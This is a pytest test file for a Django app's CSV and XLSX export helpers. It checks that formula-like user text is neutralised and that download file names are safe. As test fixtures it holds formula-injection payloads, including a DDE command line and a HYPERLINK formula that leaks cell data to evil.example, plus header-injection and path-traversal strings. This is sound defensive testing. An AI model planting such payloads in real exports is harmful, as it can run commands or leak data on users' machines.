"""Exports never hand a clerk's spreadsheet a formula written by a user; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
import zoneinfo
from decimal import Decimal
from urllib.parse import unquote

import openpyxl
import pytest
from django.http import FileResponse, StreamingHttpResponse

from yiwang.core.exports import (
    BOM,
    ExportTooLarge,
    content_disposition,
    csv_response,
    csv_rows,
    neutralise_text,
    safe_cell,
    write_xlsx,
    xlsx_response,
)

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(A1:A2)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "\t=1+1",
    "\r=1+1",
    "\t",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "  =1+1",  # spaces before the trigger
    "\n=1+1",
    "\u3000=1+1",  # ideographic space
    "=",
    "-",
]
HARMLESS = ["张三", "1+1=2", "a=b", "", "'已转义", "13800138000", "11010519491231002X", "a-b"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_a_spreadsheet_would_read_as_a_formula_gets_a_leading_quote(payload):
    assert neutralise_text(payload) == "'" + payload
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text):
    assert neutralise_text(text) == text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-5, -5),
        (-2.5, -2.5),
        (Decimal("-3.10"), Decimal("-3.10")),
        (0, 0),
        (True, True),
        (None, None),
        (float("nan"), None),
        (float("-inf"), None),
        (Decimal("NaN"), None),
        (110105194912310021, "110105194912310021"),  # too long for a spreadsheet number
        (dt.date(2024, 2, 29), dt.date(2024, 2, 29)),
    ],
)
def test_numbers_booleans_and_dates_keep_their_type(value, expected):
    result = safe_cell(value)

    assert result == expected or (result is None and expected is None)
    assert type(result) is type(expected)


def test_an_aware_datetime_is_written_in_local_time_without_a_zone(settings):
    settings.TIME_ZONE = "Asia/Shanghai"
    utc = dt.datetime(2024, 1, 1, 16, 30, tzinfo=dt.UTC)

    assert safe_cell(utc) == dt.datetime(2024, 1, 2, 0, 30)


def test_other_objects_are_written_as_neutralised_text():
    class Evil:
        def __str__(self) -> str:
            return "=1+1"

    assert safe_cell(Evil()) == "'=1+1"


# --- CSV ------------------------------------------------------------------------------------------

HEADER = ["姓名", "备注", "金额", "日期"]
ROWS = [[payload, payload, -12.5, dt.date(2024, 5, 1)] for payload in PAYLOADS] + [
    ["王五", '正常的备注，含逗号,和"引号"', Decimal("-3.10"), None],
    ["赵六", "多行\n备注", -7, dt.datetime(2024, 5, 1, 9, 30)],
]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_csv_starts_with_a_bom_and_round_trips_chinese_text():
    text = "".join(csv_rows(HEADER, ROWS))

    assert text.startswith(BOM)
    rows = read_csv(text.removeprefix(BOM))
    assert rows[0] == HEADER
    assert rows[-2] == ["王五", '正常的备注，含逗号,和"引号"', "-3.10", ""]
    assert rows[-1] == ["赵六", "多行\n备注", "-7", "2024-05-01 09:30:00"]


def test_no_csv_cell_written_from_text_starts_with_a_formula_trigger():
    rows = read_csv("".join(csv_rows(HEADER, ROWS)).removeprefix(BOM))

    for row in rows[1 : 1 + len(PAYLOADS)]:
        name, remark, amount, date = row
        for cell in (name, remark):
            assert cell.startswith("'"), cell
            assert not cell.lstrip(" \n\u3000").startswith(
                ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
            )
        assert amount == "-12.5"  # a real negative number is written as a number
        assert date == "2024-05-01"


def test_csv_rows_is_lazy_and_yields_one_line_per_row():
    def endless():
        n = 0
        while True:
            n += 1
            yield [n, f"=第{n}行"]

    lines = csv_rows(["序号", "内容"], endless())

    assert next(lines) == BOM + "序号,内容\r\n"
    assert next(lines) == "1,'=第1行\r\n"
    assert next(lines) == "2,'=第2行\r\n"


def test_the_header_is_neutralised_too():
    assert next(csv_rows(["=evil()", "ok"], [])) == BOM + "'=evil(),ok\r\n"


def test_csv_response_streams_utf8_with_a_safe_chinese_file_name():
    response = csv_response("2024年5月办件明细", HEADER, ROWS)

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "no-store"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename=\"export.csv\"; filename*=UTF-8''")
    assert unquote(disposition.split("''", 1)[1]) == "2024年5月办件明细.csv"
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")
    assert "赵六".encode() in body


# --- XLSX -----------------------------------------------------------------------------------------


def read_xlsx(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def build_xlsx(header, rows, **kwargs) -> bytes:
    buffer = io.BytesIO()
    write_xlsx(buffer, header, rows, **kwargs)
    return buffer.getvalue()


def test_no_xlsx_cell_is_a_formula_and_payloads_are_quoted_text():
    data = build_xlsx(HEADER, ROWS)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = read_xlsx(data)

    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells, "the sheet is empty"
    assert all(cell.data_type != "f" for cell in cells)
    for row_number, payload in enumerate(PAYLOADS, start=2):
        name = sheet.cell(row=row_number, column=1)
        assert name.data_type == "s"
        # Plain XML turns a carriage return into a line feed, lxml (when installed) keeps it as
        # &#13;; either way the quote still comes first.
        assert name.value in ("'" + payload, "'" + payload.replace("\r", "\n"))


def test_xlsx_payload_values_survive_exactly():
    payloads = [p for p in PAYLOADS if "\r" not in p]
    sheet = read_xlsx(build_xlsx(["备注"], [[p] for p in payloads]))

    values = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert values == ["'" + p for p in payloads]


def test_xlsx_keeps_numbers_numeric_and_chinese_text_intact():
    sheet = read_xlsx(
        build_xlsx(
            ["事项", "金额", "件数", "比例", "已办结", "日期"],
            [["新生儿出生一件事", Decimal("-3.10"), -7, -0.25, True, dt.date(2024, 5, 1)]],
        )
    )

    header, row = list(sheet.iter_rows(values_only=True))
    assert header == ("事项", "金额", "件数", "比例", "已办结", "日期")
    assert row[0] == "新生儿出生一件事"
    assert row[1] == pytest.approx(-3.1) and sheet["B2"].data_type == "n"
    assert row[2] == -7 and sheet["C2"].data_type == "n"
    assert row[3] == -0.25 and sheet["D2"].data_type == "n"
    assert row[4] is True and sheet["E2"].data_type == "b"
    assert row[5] == dt.datetime(2024, 5, 1)  # Excel stores dates as date-times


def test_xlsx_drops_characters_xml_cannot_hold_and_cuts_giant_cells():
    sheet = read_xlsx(build_xlsx(["a", "b"], [["控制\x00字符\x1b", "长" * 40_000]]))

    assert sheet["A2"].value == "控制字符"
    assert len(sheet["B2"].value) == 32_767


def test_xlsx_writes_aware_datetimes_in_local_time(settings):
    settings.TIME_ZONE = "Asia/Shanghai"
    moment = dt.datetime(2024, 1, 1, 16, 30, tzinfo=zoneinfo.ZoneInfo("UTC"))

    sheet = read_xlsx(build_xlsx(["时间"], [[moment]]))

    assert sheet["A2"].value == dt.datetime(2024, 1, 2, 0, 30)


def test_a_hostile_sheet_title_is_made_valid():
    workbook = openpyxl.load_workbook(
        io.BytesIO(build_xlsx(["a"], [], sheet_title="=x[1]:*?/\\" * 5))
    )

    title = workbook.active.title
    assert len(title) <= 31
    assert not set("[]:*?/\\") & set(title)


def test_xlsx_response_is_a_valid_workbook_with_a_chinese_file_name():
    response = xlsx_response("月报.xlsx", HEADER, ROWS, sheet_title="办件")

    assert isinstance(response, FileResponse)
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == (
        "attachment; filename=\"export.xlsx\"; filename*=UTF-8''%E6%9C%88%E6%8A%A5.xlsx"
    )
    assert response["Cache-Control"] == "no-store"
    data = b"".join(response.streaming_content)
    assert int(response["Content-Length"]) == len(data)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.active.title == "办件"
    assert workbook.active["A1"].value == "姓名"


@pytest.mark.parametrize(
    ("given", "extension", "expected_ascii", "expected_utf8"),
    [
        ("report", ".csv", "report.csv", "report.csv"),
        ("报表.CSV", ".csv", "export.csv", "报表.csv"),
        ("a.xlsx", ".csv", "a.xlsx.csv", "a.xlsx.csv"),
        ('evil"\r\nSet-Cookie: x=1', ".csv", "evil_Set-Cookie_ x1.csv", "evil_Set-Cookie_ x=1.csv"),
        ("../../etc/passwd", ".csv", "passwd.csv", "passwd.csv"),
        ("", ".xlsx", "export.xlsx", "export.xlsx"),
        ("résumé 2024", ".csv", "resume 2024.csv", "résumé 2024.csv"),
    ],
)
def test_the_file_name_header_is_safe(given, extension, expected_ascii, expected_utf8):
    header = content_disposition(given, extension=extension)

    assert "\r" not in header and "\n" not in header
    plain, extended = header.split("; filename*=UTF-8''")
    assert plain == f'attachment; filename="{expected_ascii}"'
    assert unquote(extended) == expected_utf8
    assert extended.isascii() and " " not in extended


def test_an_export_with_more_rows_than_allowed_is_refused_with_a_clear_error():
    rows = ([i, f"第{i}行"] for i in range(10))

    with pytest.raises(ExportTooLarge) as caught:
        xlsx_response("大表", ["序号", "内容"], rows, max_rows=10)  # header + 10 rows = 11

    assert caught.value.code == "export_too_many_rows"
    assert caught.value.status == 422
    assert "10" in caught.value.message
    assert build_xlsx(["序号"], [[i] for i in range(9)], max_rows=10)
